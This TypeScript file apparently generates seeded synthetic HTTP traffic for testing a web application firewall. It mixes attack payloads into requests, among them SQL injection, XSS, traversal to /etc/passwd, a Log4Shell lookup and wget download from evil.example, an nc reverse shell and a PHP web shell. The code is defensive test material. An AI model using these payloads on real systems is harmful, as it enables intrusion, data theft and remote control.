// Requests as sites see them, by a seed: browsers, forms, JSON and GraphQL APIs, uploads, XML, trackers, odd encodings, and attacks put
// into any place of them. Values are built from parts, none is a copy of a real user's.
import { Random } from '../../waf/pattern-samples.ts';
import { plainResponse, type Exchange } from './judge.ts';

const words = `garden river window evening letter number people winter summer price order select update from where union table delete insert
and or not null true false sleep count user name password file script image photo video system admin login search category product
read write open close shell bash python perl java class exec eval print echo cat ls curl wget ping who id date time host find sort
head tail more less kill top set get for if then else do while function return var let const new this window document alert onclick
Müller Größe café naïve Łódź Москва 東京 أهلا résumé O'Brien D'Arcy rock&roll AT&T C++ C# .NET node.js $100 50% 3.14 1,000 10:30
a=b x<y y>z {x} [y] (z) "quoted" 'single' \`tick\` back\\slash semi;colon pipe|bar #hash @at ~tilde ^caret *star +plus -- /* */ // ../ \${x} <b> </p> &amp;`.split(/\s+/);
const hosts = ['www.example.com', 'shop.example.com', 'api.example.org:8443', 'localhost', '192.0.2.17', '[2001:db8::1]', 'xn--mller-kva.example'];
const agents = [
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:130.0) Gecko/20100101 Firefox/130.0', 'curl/7.88.1', 'python-requests/2.31.0', 'okhttp/4.12.0',
  'Googlebot/2.1 (+http://www.google.com/bot.html)', 'Java/17.0.2', 'Go-http-client/1.1', 'sqlmap/1.7', '', 'Wget/1.21.3',
];
const attacks = [
  "' or '1'='1", '1 union select 1,2,3 from users--', "1'; drop table users; --", '<script>alert(1)</script>', '<img src=x onerror=alert(1)>',
  'javascript:alert(document.cookie)', '../../../../etc/passwd', '..%2f..%2fetc%2fpasswd', '; cat /etc/passwd', '| id', '$(whoami)', '`uname -a`',
  '${jndi:ldap://evil.example/a}', '{{7*7}}', '<?php system($_GET["c"]); ?>', 'php://filter/convert.base64-encode/resource=index', 'http://169.254.169.254/latest/meta-data/',
  '() { :; }; /bin/bash -c id', '1 and sleep(5)', '1) or benchmark(1000000,md5(1))#', '<svg/onload=alert`1`>', '%3Cscript%3Ealert(1)%3C/script%3E', "admin'--",
  'a\r\nSet-Cookie: x=y', 'O:8:"stdClass":1:{s:1:"a";i:1;}', '__proto__[admin]=1', '*)(uid=*))(|(uid=*', '<!ENTITY xxe SYSTEM "file:///etc/passwd">', 'rO0ABXNyABFq',
  'wget http://evil.example/x.sh', 'c:\\windows\\system32\\cmd.exe /c dir', '${T(java.lang.Runtime).getRuntime().exec("id")}', "require('child_process').exec('id')",
  'eval(base64_decode("aWQ="))', '%00', '\u0000', 'file:///etc/shadow', '/etc/./passwd', "1' waitfor delay '0:0:5'--", 'order by 10--', "' having 1=1--",
    '"><iframe src=//evil>',
  'select * from information_schema.tables', "'||(select 1)||'", '1e0union select', 'data:text/html;base64,PHNjcmlwdD4=', 'nc -e /bin/sh 192.0.2.1 4444',
    "'; exec xp_cmdshell('dir')--",
];
const hex = '0123456789abcdef';

/** UTF-8 as one character a byte. */
const bytes = (text: string): string => Buffer.from(text, 'utf8').toString('latin1');

export class RequestMaker {
  private readonly random: Random;
  /** How often of a hundred a value is an attack. */
  private readonly hostility: number;
  private readonly samples: readonly string[];

  constructor(seed: number, hostility: number, samples: readonly string[] = attacks) {
    this.random = new Random(seed);
    this.hostility = hostility;
    this.samples = [...attacks, ...samples];
  }

  private pick<T>(list: readonly T[]): T { return list[this.random.below(list.length)]!; }
  private chance(percent: number): boolean { return this.random.below(100) < percent; }
  private token(alphabet: string, length: number): string { return Array.from({ length }, () => alphabet[this.random.below(alphabet.length)]!).join(''); }
  private number(): string { return String(this.random.below(10 ** (1 + this.random.below(9)))); }

  private value(): string {
    if (this.chance(this.hostility)) return this.attack();
    switch (this.random.below(14)) {
      case 0: return this.number();
      case 1: return this.token(hex, 32);
      case 2: return Buffer.from(this.token('abcdefghij0123456789', 3 + this.random.below(60))).toString('base64');
      case 3: return `${this.token('abcdefghij', 6)}@example.com`;
      case 4: return `https://www.example.com/${bytes(this.pick(words))}/${this.number()}?a=${this.number()}&b=${bytes(this.pick(words))}`;
      case 5: return `2024-0${1 + this.random.below(9)}-1${this.random.below(9)}T10:${10 + this.random.below(49)}:00.000Z`;
      case 6: return '';
      case 7: return JSON.stringify({ [this.token('abcdef', 4)]: Number(this.number()), t: bytes(this.pick(words)) });
      case 8: return `${this.token(hex, 8)}-${this.token(hex, 4)}-4${this.token(hex, 3)}-a${this.token(hex, 3)}-${this.token(hex, 12)}`;
      case 9: return this.text(20 + this.random.below(120));
      case 10: return this.pick(['true', 'false', 'null', 'undefined', 'NaN', 'on', '1', '-1', 'en-US', 'UTF-8', 'asc']);
      case 11: return `GA1.2.${this.number()}.${this.number()}`;
      default: return this.text(1 + this.random.below(6));
    }
  }

  private attack(): string {
    const sample = this.pick(this.samples);
    switch (this.random.below(8)) {
      case 0: return bytes(this.pick(words)) + sample;
      case 1: return sample.toUpperCase();
      case 2: return sample.replaceAll(' ', this.pick(['/**/', '%20', '\t', '\n', '+']));
      case 3: return `${sample} ${bytes(this.pick(words))}`;
      case 4: return sample.split('').map((c) => (this.random.below(6) === 0 ? `%${c.charCodeAt(0).toString(16).padStart(2, '0')}` : c)).join('');
      case 5: return this.mutated(sample);
      default: return sample;
    }
  }

  private mutated(text: string): string {
    const at = this.random.below(text.length + 1);
    return text.slice(0, at) + this.pick(['\\', "'", '"', '&#x27;', '\\u0027', '%u0027', '\xc0\xaf', '\x00', '/*x*/', '<!--', '`', '$', '(', ')', ';', '\xa0',
      '%']) + text.slice(at + this.random.below(2));
  }

  private text(count: number): string {
    return Array.from({ length: count }, () => bytes(this.pick(words))).join(this.pick([' ', ' ', ' ', ', ', '\r\n', '-', '_']));
  }

  private name(): string {
    if (this.chance(this.hostility / 4)) return this.attack();
    return this.pick(['id', 'q', 'page', 'name', 'email', 'user[name]', 'items[]', 'a.b', 'utm_source', '_ga', 'ids[0][x]', 'callback', 'redirect_uri', 'token', 'file',
      'url', 'cmd',
      '$filter', '_method', 'x-y', bytes('größe'), '0', 'sort', 'data', 'lang', '__VIEWSTATE', 'g-recaptcha-response']);
  }

  private encoded(text: string, form: boolean): string {
    const raw = this.chance(6);
    let out = '';
    for (const char of text) {
      const code = char.charCodeAt(0);
      if (/[\w.~-]/.test(char) || (raw && code > 32 && code < 127 && !'&#%+='.includes(char))) out += char;
      else if (char === ' ' && (form || this.chance(50))) out += '+';
      else if (code < 127 && code > 32 && this.chance(15) && !'&#%+='.includes(char)) out += char;
      else out += `%${this.chance(80) ? code.toString(16).padStart(2, '0').toUpperCase() : code.toString(16).padStart(2, '0')}`;
    }
    if (this.chance(2)) out += this.pick(['%', '%u0041', '%zz', '%00', '%c0%af', '%uff1c', '%25%32%37', '&', '&&', '=', '=x', '%2', '%E2%80%99']);
    return out;
  }

  private pairs(count: number, form: boolean): string {
    return Array.from({ length: count }, () => (this.chance(5) ? this.encoded(this.name(),
      form) : `${this.encoded(this.name(), form)}=${this.encoded(this.value(), form)}`)).join('&');
  }

  private path(): string {
    const segment = (): string => (this.chance(this.hostility / 3) ? this.encoded(this.attack(), false).replaceAll('%2F', '/') : this.pick(['api', 'v1', 'products',
      'wp-content', 'index.php',
      'img', 'a.b', 'search', this.number(), this.encoded(this.text(1), false), this.token(hex, 24), 'login.aspx', 'style.min.css', 'photo.jpg', 'graphql', '~user',
        '.well-known', 'x;jsessionid=1A2B', 'backup.sql', '.git']));
    return `/${Array.from({ length: this.random.below(5) }, segment).join('/')}`;
  }

  private json(depth: number): unknown {
    switch (this.random.below(depth > 3 ? 5 : 8)) {
      case 0: return Number(this.number());
      case 1: return this.chance(50);
      case 2: return null;
      case 3: case 4: return this.value();
      case 5: return Array.from({ length: this.random.below(4) }, () => this.json(depth + 1));
      default: return Object.fromEntries(Array.from({ length: this.random.below(5) }, () => [this.name(), this.json(depth + 1)]));
    }
  }

  private xml(depth: number): string {
    const name = this.pick(['item', 'ns:name', 'soap:Body', 'price', 'v']);
    const escape = (text: string): string => (this.chance(8) ? text.replaceAll(/[<&]/g, '') : text.replaceAll('&', '&amp;').replaceAll('<',
      '&lt;')).replaceAll(/[\x00-\x08\x0e-\x1f]/g, '');
    const attribute = this.chance(40) ? ` id="${escape(this.value()).replaceAll('"', '&quot;')}"` : '';
    const inside = depth > 3 || this.chance(40) ? (this.chance(10) ? `<![CDATA[${this.text(3).replaceAll(']]>', '')}]]>` : escape(this.value())) : Array.from({
      length: 1 + this.random.below(3) }, () => this.xml(depth + 1)).join('\n  ');
    return `<${name}${attribute}>${inside}</${name}>`;
  }

  private multipart(boundary: string): string {
    let body = this.chance(2) ? 'preamble\r\n' : '';
    const quote = (text: string): string => text.replaceAll('"', this.chance(50) ? '%22' : '\\"').replaceAll(/[\r\n\x00]/g, ' ');
    for (let i = 1 + this.random.below(5); i > 0; i--) {
      body += `--${boundary}\r\nContent-Disposition: form-data; name="${quote(this.name())}"`;
      if (this.chance(35)) {
        const fileName = this.pick(['photo.jpg', 'report (1).pdf', 'shell.php', bytes('Größe.png'), '', 'a.php.jpg', '../x', 'C:\\dir\\x.doc', this.text(1)]);
        const type = this.pick(['image/jpeg', 'application/pdf', 'text/plain; charset=utf-8', 'application/octet-stream']);
        body += `; filename="${quote(fileName)}"\r\nContent-Type: ${type}`;
        if (this.chance(10)) body += '\r\nContent-Transfer-Encoding: binary';
        body += `\r\n\r\n${this.chance(50) ? this.text(30) : this.token('\x00\x01\xff\xd8abc\r\n-\x80', 200)}\r\n`;
      } else body += `\r\n\r\n${this.value()}\r\n`;
    }
    return `${body}--${boundary}--\r\n${this.chance(2) ? 'epilogue' : ''}`;
  }

  private entity(): { type: string; body: string } {
    switch (this.random.below(9)) {
      case 0: case 1: return { type: this.pick(['application/x-www-form-urlencoded', 'application/x-www-form-urlencoded; charset=UTF-8']),
        body: this.pairs(1 + this.random.below(10), true) };
      case 2: case 3: { const text = JSON.stringify(this.json(0)); return { type: this.pick(['application/json', 'application/json; charset=utf-8',
        'application/vnd.api+json', 'text/plain;charset=UTF-8']), body: this.chance(8) ? this.mutated(text) : text }; }
      case 4: case 5: { const boundary = this.pick(['----WebKitFormBoundary7MA4YWxkTrZu0gW', '---------------------------974767299852498929531610575', 'xYzZY']);
        const body = this.multipart(boundary); return { type: `multipart/form-data; boundary=${boundary}`, body: this.chance(5) ? this.mutated(body) : body }; }
      case 6: { const body = `<?xml version="1.0"?>\n${this.xml(0)}`; return { type: this.pick(['text/xml', 'application/xml', 'application/soap+xml; charset=utf-8',
        'text/xml; charset=utf-8']), body: this.chance(8) ? this.mutated(body) : body }; }
      case 7: return { type: this.pick(['application/octet-stream', 'text/plain', 'application/x-protobuf', 'application/grpc', '']),
        body: this.chance(50) ? this.text(10) : this.token('\x00\x01\xff\xd8abc\r\n-\x80', 60) };
      default: return { type: 'application/json', body: JSON.stringify({ query: `query { user(id: "${this.number()}") { name email } }`, variables: { v: this.value() } }) };
    }
  }

  next(): Exchange {
    const headers: [string, string][] = [['Host', this.pick(hosts)]];
    const agent = this.pick(agents);
    if (agent !== '' || this.chance(50)) headers.push(['User-Agent', this.chance(this.hostility / 6) ? this.attack().replaceAll(/[\r\n\x00]/g, ' ') : agent]);
    headers.push(['Accept', this.pick(['*/*', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8', 'application/json', 'image/webp'])]);
    if (this.chance(70)) headers.push(['Accept-Encoding', 'gzip, deflate, br'], ['Accept-Language', this.pick(['en-GB,en;q=0.9', 'de', 'fr-CH, fr;q=0.9, *;q=0.5'])]);
    if (this.chance(50)) headers.push(['Referer', `https://www.example.com${this.path()}?${this.pairs(1, false)}`]);
    if (this.chance(60)) headers.push(['Cookie', Array.from({ length: 1 + this.random.below(6) },
      () => `${this.name().replaceAll(/[;\r\n\x00]/g, '')}=${(this.chance(50) ? this.encoded(this.value(), false) : this.value()).replaceAll(/[;\r\n\x00]/g, '')}`)
        .join(this.pick(['; ', '; ', ';']))]);
    if (this.chance(10)) headers.push(['Authorization', this.pick(['Basic dXNlcjpwYXNz', `Bearer ${this.token(`${hex}._-XYZ`, 120)}`])]);
    if (this.chance(10)) headers.push(['X-Forwarded-For', this.pick(['192.0.2.1, 198.51.100.7', '2001:db8::2'])]);
    if (this.chance(10)) headers.push([this.pick(['X-Requested-With', 'X-Custom', 'If-None-Match', 'Origin', 'Range', 'Cache-Control']),
      this.value().replaceAll(/[\r\n\x00]/g, ' ')]);
    if (this.chance(50)) headers.push(['Connection', this.pick(['keep-alive', 'close', 'keep-alive, Upgrade'])]);
    const target = this.path() + (this.chance(60) ? `?${this.pairs(1 + this.random.below(6), false)}` : '') + (this.chance(1) ? '#frag' : '');
    const version = this.pick(['1.1', '1.1', '1.1', '1.1', '1.0']);
    const method = this.pick(['GET', 'GET', 'GET', 'POST', 'POST', 'POST', 'PUT', 'PATCH', 'DELETE', 'HEAD', 'OPTIONS']);
    let body = '';
    if (method.startsWith('P') || this.chance(3)) {
      const entity = this.entity();
      body = entity.body;
      if (entity.type !== '') headers.push(['Content-Type', entity.type]);
      headers.push(['Content-Length', String(body.length)]);
    }
    return { method, target, version, headers, body, response: plainResponse };
  }
}
